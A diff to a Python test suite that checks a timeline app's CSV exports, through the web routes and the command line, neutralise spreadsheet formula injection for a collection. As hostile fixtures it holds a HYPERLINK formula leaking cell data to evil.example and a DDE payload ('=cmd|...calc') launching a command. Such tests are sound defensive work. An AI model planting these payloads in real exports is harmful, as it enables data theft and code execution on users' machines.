@@ -20,7 +20,7 @@ from sqlmodel import Session
 
 from app.config import PROJECT_ROOT
 from app.db import get_engine
-from app.models import Actor, Article, Event, EventActor, EventLocation, Location, Mention
+from app.models import Actor, Article, Collection, Event, EventActor, EventLocation, Location, Mention
 from app.spreadsheet import FORMULA_STARTS, inert_cell
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1, "Click for the source")'
@@ -111,6 +111,41 @@ def test_the_command_line_csv_is_neutralised_too(hostile_settings):
     rows = rows_of(result.stdout)
     assert_no_formula_cells(rows)
     assert rows[0]["title"] == "'" + HOSTILE["title"]
+
+
+@pytest.fixture
+def hostile_collection(hostile_settings):
+    """The hostile event in a collection of its own, whose name starts like a formula too."""
+    from sqlalchemy import update
+
+    with Session(get_engine(hostile_settings.database_url)) as session:
+        collection = Collection(slug="hostile", name="=cmd|' /C calc'!A0", description="@SUM(1)")
+        session.add(collection)
+        session.flush()
+        session.execute(update(Article).where(Article.id == "formula001").values(collection_id=collection.id))
+        session.execute(update(Event).where(Event.id == "formula0001").values(collection_id=collection.id))
+        session.commit()
+    return hostile_settings
+
+
+def test_a_collections_csv_is_neutralised_too(hostile_collection):
+    from app.main import create_app
+
+    with TestClient(create_app(hostile_collection)) as client:
+        for path in ("/c/hostile/export.csv", "/export.csv?collection=hostile"):
+            rows = rows_of(client.get(path).text)
+            assert [row["event_id_cnty"] for row in rows] == ["formula0001"], path
+            assert_no_formula_cells(rows)
+            assert rows[0]["title"] == "'" + HOSTILE["title"] and rows[0]["source"] == "'" + HOSTILE["publisher"]
+        assert rows_of(client.get("/c/default/export.csv").text) == []
+    env = dict(os.environ, TIMELINE_DATA_DIR=str(hostile_collection.data_dir),
+               DATABASE_URL=hostile_collection.database_url)
+    result = subprocess.run([sys.executable, "-m", "app.cli", "export", "--format", "csv", "--collection", "hostile"],
+                            capture_output=True, env=env, cwd=PROJECT_ROOT, timeout=300, text=True)
+    assert result.returncode == 0, result.stderr
+    rows = rows_of(result.stdout)
+    assert len(rows) == 1
+    assert_no_formula_cells(rows)
 
 
 @pytest.mark.parametrize("value, expected", [
